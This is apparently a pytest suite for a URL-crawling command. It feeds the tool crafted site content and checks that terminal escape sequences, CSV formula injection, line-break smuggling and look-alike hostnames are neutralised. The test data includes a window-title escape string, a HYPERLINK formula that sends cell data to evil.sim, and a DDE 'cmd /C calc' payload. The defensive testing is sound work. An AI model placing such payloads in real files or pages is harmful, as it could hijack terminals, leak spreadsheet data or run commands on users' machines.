"""Texts that mean harm, shown and written by `arpent urls`.

Terminals (row 15), spreadsheets (row 14), lines of logs (row 23), names that deceive
(row 13). All of it comes over HTTP, in every place where a site can put a text.
"""

import csv
import io
import os
import pty
import re
import subprocess
import sys
from typing import Any

import pytest

from arpent.demo.replies import Answer, Reply, Site, moved, robots, text
from arpent.demo.server import Farm
from farm.attacked import HOME, attack, index, run, text_of, to_the_farm, urlset
from farm.command import environment

STYLE = re.compile(rb"\x1b\[[0-9;]*m")
ERASE = b"\x1b[2K"
OWNED = "\x1b]0;owned\x07\x9b31m\u202e\u200b"
"""A title for the window, a CSI of one byte, a change of direction, no width."""
BAD = ("\x1b", "\x07", "\x9b", "\u202e", "\u200b", "\r\n\r\n")
TITLE = "\x1b]0;"


def poisoned() -> Site:
    """Return a site that puts the text wherever a site can put one."""
    loc = "".join(f"&#{ord(c)};" if ord(c) > 0x7F else c for c in OWNED)
    raw = OWNED.encode()
    error = b"<Error><Code>No%b</Code><Message>m%b</Message></Error>" % (raw, raw)
    feed = (
        f"<rss version='2.0'><channel><title>{OWNED}</title><item><title>t{OWNED}"
        f"</title><link>{HOME}/f{OWNED}</link><pubDate>{OWNED}</pubDate></item>"
        "</channel></rss>"
    )
    urlset_text = text_of(f"{HOME}/x{loc}", f"{OWNED}:x", f"{HOME}/y").replace(
        "</url>", f"<lastmod>1{OWNED}</lastmod><x{OWNED}/></url>"
    )
    answers: dict[str, Answer] = {
        "/robots.txt": robots(
            f"User-agent: {OWNED}",
            f"Disalow: /{OWNED}",
            f"Crawl-delay: {OWNED}",
            f"Content-Signal: {OWNED}=no, ai-train=no{OWNED}",
            f"License: {OWNED}",
            f"{OWNED}: x",
            f"Sitemap: {OWNED}",
            f"Sitemap: /{OWNED}.xml",
            *(f"Sitemap: {HOME}/{n}" for n in ("e", "f", "u", "i", "m", "t", "h")),
        ),
        "/e": Reply(status=403, body=error),
        "/f": Reply(body=feed.encode()),
        "/u": Reply(body=urlset_text.encode(), content_type=f"text/xml{OWNED[-2:]}"),
        "/i": index(f"{HOME}/c{loc}", f"x{loc}:y", f"http://h{loc}.sim/"),
        "/m": moved(f"foo{TITLE}:bar"),
        "/t": text(f"{HOME}/t{OWNED}\nnot a url {OWNED}\n".encode()),
        "/h": Reply(body=f"<html><title>{OWNED}</title>".encode(), says_coding=TITLE),
    }
    return Site(host="mal.sim", answers=answers)


def on_a_terminal(farm: Farm, *arguments: str) -> bytes:
    """Run the command with all output on a pseudo-terminal, and return that."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(  # noqa: S603 -- our own command
        [
            *(sys.executable, "-m", "arpent", "urls", *arguments),
            *("--pause", "0", *to_the_farm(farm)),
        ],
        stdin=subprocess.DEVNULL,
        stdout=theirs,
        stderr=theirs,
        env=environment(TERM="xterm-256color", COLUMNS="100"),
    )
    os.close(theirs)
    shown = b""
    try:
        while part := os.read(ours, 65_536):
            shown += part
    except OSError:  # how Linux says that the other end is closed
        pass
    finally:
        os.close(ours)
    process.wait(timeout=20)
    return shown


@pytest.mark.parametrize("form", ["urls", "table", "jsonl", "csv"])
def test_terminal_is_never_steered_by_what_a_site_says(form: str) -> None:
    with Farm([poisoned()]) as farm:
        shown = on_a_terminal(farm, HOME, "-v", "--format", form)
    rest = STYLE.sub(b"", shown).replace(ERASE, b"").decode()
    for bad in BAD:
        assert bad not in rest
    assert "owned" in rest
    assert "http://mal.sim/x" in rest


def test_files_and_pipes_hold_no_bare_control_characters() -> None:
    with Farm([poisoned()]) as farm:
        outcome = run(farm, HOME, "-v")
    assert outcome.code == 0
    for shown in (outcome.errors, outcome.out.decode()):
        for bad in ("\x1b", "\x07", "\x9b"):
            assert bad not in shown
    assert "owned" in outcome.errors
    assert len(outcome.urls) == outcome.report["urls"]
    # the log and the report are JSON in ASCII: `run` reads them as such
    assert "owned" in str(outcome.report["findings"])


CELLS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\u3000-1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "a\n=1", "a\r\n +1", "\ufeff=1"),
    *('=HYPERLINK("http://evil.sim?x="&A1,"ok")', "=cmd|' /C calc'!A0", '"=1', "x,=1"),
)
STARTS = re.compile(
    r"(?:^|[\r\n])[\s\u00a0\ufeff\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]"
)


def escaped(cell: str) -> str:
    marks = {"&": "&amp;", "<": "&lt;", "\r": "&#13;", "\n": "&#10;", "\t": "&#9;"}
    return "".join(marks.get(sign, sign) for sign in cell)


def formulas() -> dict[str, Answer]:
    entries = "".join(
        f"<url><loc>{HOME}/{n}</loc><lastmod>{cell}</lastmod>"
        f"<changefreq>{cell}</changefreq><priority>{cell}</priority></url>"
        for n, cell in enumerate(map(escaped, CELLS))
    )
    items = "".join(
        f"<item><title>{escaped(cell)}</title><link>{HOME}/f{n}</link></item>"
        for n, cell in enumerate(CELLS)
    )
    feed = f"<rss version='2.0'><channel>{items}</channel></rss>"
    return {
        "/=formulas.xml": urlset(inside=entries),
        "/feed": Reply(body=feed.encode()),
    }


def rows_of(out: bytes) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(out.decode(), newline=""), strict=True))


def test_no_cell_of_a_table_is_a_formula() -> None:
    outcome = attack(formulas(), *("--format", "csv"), honest=False)
    rows = rows_of(outcome.out)
    assert len(rows) == 6 + 2 * len(CELLS)
    for row in rows:
        assert not [cell for cell in row.values() if STARTS.search(cell)]
    told = {row["title"].lstrip("'") for row in rows}
    assert {"=1+1", "@SUM(A1)", "\uff1d1", "x,=1"} <= told


def test_raw_cells_are_given_when_they_are_asked_for() -> None:
    outcome = attack(formulas(), *("--format", "csv", "--csv-raw"), honest=False)
    told = {row["title"] for row in rows_of(outcome.out)}
    assert {"=1+1", "@SUM(A1)", "\uff1d1"} <= told


def test_address_cannot_break_its_line_in_any_format() -> None:
    breaks = ("&#10;", "&#13;&#10;", "&#133;", "&#8232;", "&#11;", "&#12;", "&#28;")
    locs = [f"{HOME}/a{sign}http://evil.sim/{n}" for n, sign in enumerate(breaks)]
    answers: dict[str, Answer] = {"/breaks.xml": urlset(*locs)}
    plain = attack(answers)
    assert len(plain.out.decode().splitlines()) == 6 + len(breaks)
    assert not [url for url in plain.urls if not url.startswith(HOME)]
    lines = attack(answers, *("--format", "jsonl"), honest=False)
    assert len(lines.out.decode().splitlines()) == 6 + len(breaks)
    table = attack(answers, *("--format", "csv"), honest=False)
    assert len(rows_of(table.out)) == table.out.count(b"\n") - 1 == 6 + len(breaks)


def test_look_alike_is_given_as_written_and_asked_in_punycode() -> None:
    double = "http://m\u0430l.sim/s.xml"
    other = Site(host="xn--ml-7kc.sim", answers={"/s.xml": urlset(f"{double}?page")})
    outcome = attack({}, announced=[double], others=[other])
    assert f"{double}?page" in outcome.urls
    assert outcome.hosts == {"mal.sim", "xn--ml-7kc.sim"}
    assert "xn--ml-7kc.sim" in outcome.report["hosts"]


def test_name_that_the_user_typed_is_shown_safely() -> None:
    with Farm([]) as farm:
        shown = on_a_terminal(farm, "http://h\u202eost.sim/\x1b]0;owned\x07")
    rest = STYLE.sub(b"", shown).decode()
    assert not [bad for bad in BAD if bad in rest]
